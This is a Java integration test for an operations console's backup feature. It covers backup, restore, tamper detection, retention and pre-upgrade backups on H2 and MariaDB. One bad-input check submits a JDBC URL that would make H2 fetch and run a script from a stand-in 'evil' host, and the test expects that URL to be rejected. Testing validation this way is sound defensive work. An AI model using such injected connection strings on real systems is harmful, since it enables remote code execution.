package org.opsconsole.itests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.RandomAccessFile;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Predicate;
import java.util.stream.Stream;

import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.opsconsole.itests.NotificationsTest.Receiver;

import com.fasterxml.jackson.databind.JsonNode;

/**
 * Backups in the running console, with the console's database on H2 and on MariaDB: the seeded targets; a backup of
 * the platform's database restored into a scratch database with identical row counts and checksums; the console's own
 * database backed up and restored into a scratch database (never over itself while it runs); a verification that
 * passes, and one that fails on a tampered file and is notified; a folder restored over the original after a safety
 * backup, with a confirmation; retention pruning as configured; a module change through the plugin manager taking its
 * pre-upgrade backup, linked from the change history; and bad input refused, naming the field, changing nothing.
 */
class BackupsTest {

    private static final String SERVER = "jdbc:mysql://127.0.0.1:3306/";

    @ParameterizedTest
    @ValueSource(strings = {"h2", "mysql"})
    void backupsRestoresVerificationsRetentionAndPreUpgradeBackups(String kind) throws Exception {
        Map<String, String> env = new HashMap<>(Map.of("OPSCONSOLE_PLUGINS_TRUST", "development",
                "OPSCONSOLE_BACKUP_UPGRADE_MAX_AGE_MINUTES", "0"));
        // the H2 run seals with SM4 (国密, Bouncy Castle in OSGi), the MariaDB run with AES-256-GCM
        String cipher = kind.equals("h2") ? "SM4-GCM" : "AES-256-GCM";
        env.put("OPSCONSOLE_BACKUP_CIPHER", cipher);
        Connection server = null;
        List<String> databases = new java.util.ArrayList<>();
        if (kind.equals("mysql")) {
            server = mysql();
            String console = database(server, databases, "opsconsole_bk_");
            env.putAll(Map.of("OPSCONSOLE_DB_URL", SERVER + console, "OPSCONSOLE_DB_USER", "root", "OPSCONSOLE_DB_PASSWORD", ""));
        }
        Path data = Files.createTempDirectory("opsconsole-backups-");
        Path folder = Files.createTempDirectory("opsconsole-attachments-");
        Files.createDirectories(folder.resolve("2025/缴款书"));
        Files.writeString(folder.resolve("2025/缴款书/4400001.pdf"), "缴款书 4400001 的扫描件");
        Files.writeString(folder.resolve("readme.txt"), "附件目录");
        try (Receiver team = new Receiver(0); RunningConsole console = RunningConsole.start(Distribution.home(), data, env)) {
            ConsoleSession admin = console.admin();
            assertEquals(201, admin.post("/api/notify/channels", Map.of("id", "ops-team", "name", "运维组", "type", "webhook",
                    "minSeverity", "INFO", "settings", Map.of("url", team.url()))).statusCode());
            generateSandbox(admin);

            JsonNode targets = admin.json("/api/backups/targets");
            long consoleTarget = target(targets, "控制台数据库").path("id").asLong();
            long sandboxTarget = target(targets, "模拟平台数据库").path("id").asLong();
            assertEquals("console", target(targets, "控制台数据库").path("kind").asText());
            assertEquals("0 0 2 * * ?", target(targets, "控制台数据库").path("schedule").asText(), "seeded with a nightly schedule");

            badInputIsRefusedAndChangesNothing(admin);

            // the schedules are the core's jobs: run the console database's job and the verification job now
            JsonNode scheduled = runJob(admin, "backups.target-" + consoleTarget);
            assertEquals("SUCCESS", scheduled.path("outcome").asText(), scheduled.toString());
            assertTrue(scheduled.path("message").asText().contains("完成"), scheduled.toString());
            JsonNode verifiedByJob = runJob(admin, "backups.verify");
            assertEquals("SUCCESS", verifiedByJob.path("outcome").asText(), verifiedByJob.toString());
            // (a nightly schedule firing during the test could add a target: at least this one passed, none failed)
            assertTrue(verifiedByJob.path("message").asText().matches("校验通过 [1-9]\\d* 份，失败 0 份.*"), verifiedByJob.toString());
            assertEquals("PASSED", admin.json("/api/backups/runs?target=" + consoleTarget + "&state=complete").get(0)
                    .path("verifyState").asText());

            // the platform's database -> a scratch database with the same rows and checksums
            JsonNode platform = backup(admin, sandboxTarget);
            assertTrue(platform.path("tables").asInt() > 5 && platform.path("rows").asLong() > 1000, platform.toString());
            JsonNode detail = admin.json("/api/backups/runs/" + platform.path("id").asText());
            assertEquals(cipher, detail.path("cipher").asText());
            assertFalse(detail.path("tableList").isEmpty(), detail.toString());
            JsonNode restored = restore(admin, platform.path("id").asText(), "scratch", null);
            assertEquals("COMPLETE", restored.path("state").asText(), restored.toString());
            assertTrue(restored.path("detail").asText().contains("一致"), restored.toString());
            assertTrue(Files.exists(Path.of(restored.path("location").asText() + ".mv.db")), "the scratch H2 database is kept: " + restored);
            assertEquals("PASSED", verify(admin, platform.path("id").asText()).path("verifyState").asText());

            // a tampered file fails the verification, which is notified
            Path repository = data.resolve("backups/repository");
            Path file;
            try (Stream<Path> files = Files.walk(repository.resolve(Long.toString(sandboxTarget)).resolve(platform.path("id").asText()))) {
                file = files.filter(f -> f.toString().endsWith(".rows")).max((a, b) -> Long.compare(a.toFile().length(), b.toFile().length()))
                        .orElseThrow();
            }
            try (RandomAccessFile raw = new RandomAccessFile(file.toFile(), "rw")) {
                raw.seek(raw.length() / 2);
                int b = raw.read();
                raw.seek(raw.length() / 2);
                raw.write(b ^ 0x20);
            }
            JsonNode tampered = verify(admin, platform.path("id").asText());
            assertEquals("FAILED", tampered.path("verifyState").asText(), tampered.toString());
            JsonNode verification = admin.json("/api/backups/runs/" + platform.path("id").asText()).path("verifications").get(0);
            assertTrue(verification.path("detail").asText().contains("changed"), verification.toString());
            await(() -> team.bodies.stream().anyMatch(b -> b.contains("备份校验失败")), "the failed verification is notified");
            await(() -> {
                String health = admin.get("/api/health").body();
                return health.contains("backups.state") && health.contains("WARNING") && health.contains("\"status\":\"UP\"");
            }, "the health endpoint warns about the backup that failed its verification (a warning: the console is up)");

            if (kind.equals("mysql")) {
                // a platform database on MariaDB, by JDBC URL: into a scratch database on the same server
                String platformDb = database(server, databases, "opsconsole_bkplat_");
                try (Statement sql = server.createStatement()) {
                    sql.execute("create table " + platformDb + ".payment_notice (id bigint primary key, payer varchar(100), amount decimal(18,2),"
                            + " paid_at datetime(3), note text) default character set utf8mb4");
                    sql.execute("insert into " + platformDb + ".payment_notice select seq, concat('缴款人', seq), seq * 1.25,"
                            + " '2025-01-01 08:00:00.125' + interval seq minute, if(seq % 3 = 0, null, repeat('备注', seq % 7))"
                            + " from " + platformDb + ".seq_1_to_5000");
                }
                HttpResponse<String> made = admin.post("/api/backups/targets", Map.of("name", "平台业务库", "kind", "database",
                        "settings", Map.of("url", SERVER + platformDb, "user", "root", "password", "")));
                assertEquals(201, made.statusCode(), made.body());
                JsonNode mariadb = backup(admin, ConsoleSession.JSON.readTree(made.body()).path("id").asLong());
                assertEquals(5000, mariadb.path("rows").asLong(), mariadb.toString());
                JsonNode intoScratch = restore(admin, mariadb.path("id").asText(), "scratch", null);
                assertEquals("COMPLETE", intoScratch.path("state").asText(), intoScratch.toString());
                String scratchDb = intoScratch.path("location").asText().replace("mysql:", "");
                databases.add(scratchDb);
                try (Statement sql = server.createStatement(); java.sql.ResultSet rs = sql.executeQuery(
                        "select count(*), sum(amount) from `" + scratchDb + "`.payment_notice")) {
                    rs.next();
                    assertEquals(5000, rs.getLong(1));
                    assertEquals(0, new java.math.BigDecimal("15628125.00").compareTo(rs.getBigDecimal(2)));
                }
                assertEquals("PASSED", verify(admin, mariadb.path("id").asText()).path("verifyState").asText());
            }

            // the console's own database: backed up, restored into a scratch database, never over itself while it runs
            JsonNode own = backup(admin, consoleTarget);
            assertTrue(own.path("tables").asInt() > 20, own.toString());
            HttpResponse<String> overItself = admin.post("/api/backups/restores", Map.of("backupId", own.path("id").asText(),
                    "destination", "original", "confirm", "控制台数据库"));
            assertEquals(409, overItself.statusCode(), overItself.body());
            JsonNode ownRestored = restore(admin, own.path("id").asText(), "scratch", null);
            assertEquals("COMPLETE", ownRestored.path("state").asText(), ownRestored.toString());
            if (kind.equals("mysql")) {
                databases.add(ownRestored.path("location").asText().replace("mysql:", ""));
            }

            // a folder: backed up, changed, restored over the original after a backup of it
            HttpResponse<String> created = admin.post("/api/backups/targets", Map.of("name", "平台附件", "kind", "files",
                    "settings", Map.of("path", folder.toString()), "schedule", "", "keepLast", 5, "keepDaily", 0, "keepWeekly", 0,
                    "keepMonthly", 0));
            assertEquals(201, created.statusCode(), created.body());
            long files = ConsoleSession.JSON.readTree(created.body()).path("id").asLong();
            JsonNode first = backup(admin, files);
            assertEquals(2, first.path("files").asLong(), first.toString());
            assertEquals("PASSED", verify(admin, first.path("id").asText()).path("verifyState").asText());
            Files.writeString(folder.resolve("2025/缴款书/4400001.pdf"), "被改坏了");
            Files.delete(folder.resolve("readme.txt"));
            HttpResponse<String> unconfirmed = admin.post("/api/backups/restores", Map.of("backupId", first.path("id").asText(),
                    "destination", "original", "confirm", "附件"));
            assertEquals(400, unconfirmed.statusCode(), unconfirmed.body());
            assertTrue(unconfirmed.body().contains("\"confirm\""), unconfirmed.body());
            JsonNode over = restore(admin, first.path("id").asText(), "original", "平台附件");
            assertEquals("COMPLETE", over.path("state").asText(), over.toString());
            assertEquals("缴款书 4400001 的扫描件", Files.readString(folder.resolve("2025/缴款书/4400001.pdf")));
            assertEquals("附件目录", Files.readString(folder.resolve("readme.txt")));
            String safety = over.path("safetyBackupId").asText();
            assertEquals("BEFORE_RESTORE", admin.json("/api/backups/runs/" + safety).path("reason").asText());

            // retention: keep the newest one (and the newest verified one, whatever the policy says)
            assertEquals(200, admin.put("/api/backups/targets/" + files, Map.of("keepLast", 1)).statusCode());
            JsonNode third = backup(admin, files);
            JsonNode runs = admin.json("/api/backups/runs?target=" + files);
            assertEquals("COMPLETE", run(runs, third.path("id").asText()).path("state").asText());
            assertEquals("COMPLETE", run(runs, first.path("id").asText()).path("state").asText(), "the newest verified backup stays");
            assertEquals("PRUNED", run(runs, safety).path("state").asText(), runs.toString());
            assertFalse(Files.exists(repository.resolve(Long.toString(files)).resolve(safety)), "a pruned backup's files are deleted");

            // a module change through the plugin manager takes a backup of the console's database first
            String uploaded = admin.upload("/api/plugins/uploads?name=" + URLEncoder.encode("probe-1.0.0.jar", StandardCharsets.UTF_8),
                    TestModules.bundle("org.example.backup_probe", "1.0.0", Map.of())).body();
            JsonNode plan = ConsoleSession.JSON.readTree(uploaded);
            assertTrue(uploaded.contains("先备份控制台数据库"), uploaded);
            HttpResponse<String> applied = admin.post("/api/plugins/uploads/" + plan.path("id").asText() + "/apply", Map.of());
            assertEquals(200, applied.statusCode(), applied.body());
            JsonNode change = admin.json("/api/plugins/changes").path("changes").get(0);
            String protecting = change.path("backupId").asText();
            assertFalse(protecting.isEmpty(), change.toString());
            assertEquals("/#/backups/" + protecting, change.path("backupLink").asText());
            JsonNode preUpgrade = admin.json("/api/backups/runs/" + protecting);
            assertEquals("PRE_UPGRADE", preUpgrade.path("reason").asText());
            assertEquals("COMPLETE", preUpgrade.path("state").asText());
            assertEquals(consoleTarget, preUpgrade.path("targetId").asLong());

            // the platform's own pre-upgrade backup, from the console
            HttpResponse<String> platformUpgrade = admin.post("/api/backups/runs/pre-upgrade", Map.of("note", "平台 V2.3 升级"));
            assertEquals(202, platformUpgrade.statusCode(), platformUpgrade.body());
            for (JsonNode operation : ConsoleSession.JSON.readTree(platformUpgrade.body()).path("operations")) {
                assertEquals("DONE", awaitOperation(admin, operation.path("id").asText()).path("state").asText());
            }

            HttpResponse<String> usage = admin.get("/api/backups/operations/overview");
            assertEquals(200, usage.statusCode());
            assertTrue(ConsoleSession.JSON.readTree(usage.body()).path("sizeBytes").asLong() > 0, usage.body());
            ConsoleSession auditor = console.signIn("auditor");
            for (String action : List.of("backups.backup", "backups.restore", "backups.verify", "backups.prune", "backups.target.create")) {
                String events = auditor.get("/api/audit/events?size=50&action=" + action).body();
                assertTrue(events.contains("\"" + action + "\""), action + ": " + events);
            }
        } finally {
            if (server != null) {
                try (Connection open = server; Statement sql = open.createStatement()) {
                    for (String database : databases) {
                        sql.execute("drop database if exists `" + database + "`");
                    }
                }
            }
        }
    }

    private static void badInputIsRefusedAndChangesNothing(ConsoleSession admin) throws Exception {
        int before = admin.json("/api/backups/targets").size();
        HttpResponse<String> bad = admin.post("/api/backups/targets", Map.of("name", "坏对象", "kind", "database",
                "settings", Map.of("url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"), "schedule", "every night",
                "keepLast", -1));
        assertEquals(400, bad.statusCode(), bad.body());
        assertTrue(bad.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json"));
        assertTrue(bad.body().contains("settings.url") && bad.body().contains("\"schedule\"") && bad.body().contains("\"keepLast\""),
                bad.body());
        HttpResponse<String> noFolder = admin.post("/api/backups/targets", Map.of("name", "不存在的目录", "kind", "files",
                "settings", Map.of("path", "/no/such/folder")));
        assertEquals(400, noFolder.statusCode(), noFolder.body());
        assertTrue(noFolder.body().contains("settings.path"), noFolder.body());
        assertEquals(before, admin.json("/api/backups/targets").size(), "nothing stored");
        HttpResponse<String> noTarget = admin.post("/api/backups/runs", Map.of("targetId", 99999));
        assertEquals(400, noTarget.statusCode(), noTarget.body());
        HttpResponse<String> badDestination = admin.post("/api/backups/restores", Map.of("backupId", "x", "destination", "elsewhere"));
        assertEquals(400, badDestination.statusCode(), badDestination.body());
        assertTrue(badDestination.body().contains("\"destination\""), badDestination.body());
    }

    static JsonNode backup(ConsoleSession admin, long target) throws Exception {
        HttpResponse<String> started = admin.post("/api/backups/runs", Map.of("targetId", target, "note", "测试"));
        assertEquals(202, started.statusCode(), started.body());
        JsonNode operation = awaitOperation(admin, ConsoleSession.JSON.readTree(started.body()).path("id").asText());
        assertEquals("DONE", operation.path("state").asText(), operation.toString());
        JsonNode run = admin.json("/api/backups/runs/" + operation.path("backupId").asText());
        assertEquals("COMPLETE", run.path("state").asText(), run.toString());
        return run;
    }

    /** Runs a job now through the core's scheduler and returns its finished run. */
    private static JsonNode runJob(ConsoleSession admin, String job) throws Exception {
        HttpResponse<String> started = admin.post("/api/jobs/" + job + "/run", Map.of());
        assertEquals(202, started.statusCode(), started.body());
        long runId = ConsoleSession.JSON.readTree(started.body()).path("runId").asLong();
        return await(() -> {
            for (JsonNode run : admin.json("/api/jobs/" + job + "/runs?size=5").path("runs")) {
                if (run.path("id").asLong() == runId && !run.path("outcome").asText().equals("RUNNING")
                        && !run.path("outcome").isNull() && !run.path("outcome").asText().isEmpty()) {
                    return run;
                }
            }
            return null;
        }, run -> run != null, "job " + job + " ends");
    }

    static JsonNode verify(ConsoleSession admin, String backup) throws Exception {
        HttpResponse<String> started = admin.post("/api/backups/runs/" + backup + "/verify", Map.of());
        assertEquals(202, started.statusCode(), started.body());
        awaitOperation(admin, ConsoleSession.JSON.readTree(started.body()).path("id").asText());
        return admin.json("/api/backups/runs/" + backup);
    }

    private static JsonNode restore(ConsoleSession admin, String backup, String destination, String confirm) throws Exception {
        Map<String, Object> body = new HashMap<>(Map.of("backupId", backup, "destination", destination));
        if (confirm != null) {
            body.put("confirm", confirm);
        }
        HttpResponse<String> started = admin.post("/api/backups/restores", body);
        assertEquals(202, started.statusCode(), started.body());
        awaitOperation(admin, ConsoleSession.JSON.readTree(started.body()).path("id").asText());
        for (JsonNode restore : admin.json("/api/backups/restores")) {
            if (restore.path("backupId").asText().equals(backup)) {
                return restore;
            }
        }
        throw new AssertionError("no restore of " + backup);
    }

    static JsonNode awaitOperation(ConsoleSession admin, String id) throws Exception {
        return await(() -> admin.json("/api/backups/operations/" + id), o -> !o.path("state").asText().equals("RUNNING"),
                "operation " + id + " ends");
    }

    private static JsonNode target(JsonNode targets, String name) {
        for (JsonNode target : targets) {
            if (target.path("name").asText().equals(name)) {
                return target;
            }
        }
        throw new AssertionError("no target " + name + " in " + targets);
    }

    private static JsonNode run(JsonNode runs, String id) {
        for (JsonNode run : runs) {
            if (run.path("id").asText().equals(id)) {
                return run;
            }
        }
        throw new AssertionError("no backup " + id + " in " + runs);
    }

    static void generateSandbox(ConsoleSession admin) throws Exception {
        HttpResponse<String> started = admin.post("/api/sandbox/generation", Map.of("seed", 42, "scale", "0.01"));
        assertEquals(202, started.statusCode(), started.body());
        await(() -> admin.json("/api/sandbox/generation").path("generation").path("state").asText(), "COMPLETE"::equals,
                "the sandbox's data is generated");
    }

    static Connection mysql() throws SQLException {
        try {
            return DriverManager.getConnection(SERVER, "root", "");
        } catch (SQLException e) {
            String how = "no MySQL/MariaDB at 127.0.0.1:3306 (root, empty password): " + e.getMessage();
            if (System.getenv("CI") != null) {
                throw new IllegalStateException(how, e);
            }
            Assumptions.abort(how);
            throw e;
        }
    }

    static String database(Connection server, List<String> made, String prefix) throws SQLException {
        String name = prefix + UUID.randomUUID().toString().replace("-", "").substring(0, 10);
        try (Statement sql = server.createStatement()) {
            sql.execute("create database " + name + " character set utf8mb4 collate utf8mb4_bin");
        }
        made.add(name);
        return name;
    }

    interface Probe<T> {
        T get() throws Exception;
    }

    static <T> T await(Probe<T> probe, Predicate<T> done, String what) throws Exception {
        long end = System.nanoTime() + Duration.ofSeconds(120).toNanos();
        T last = null;
        while (System.nanoTime() < end) {
            last = probe.get();
            if (last != null && done.test(last)) {
                return last;
            }
            Thread.sleep(200);
        }
        throw new AssertionError(what + " within 120 s; last: " + last);
    }

    static void await(Probe<Boolean> probe, String what) throws Exception {
        await(probe, Boolean::booleanValue, what);
    }
}
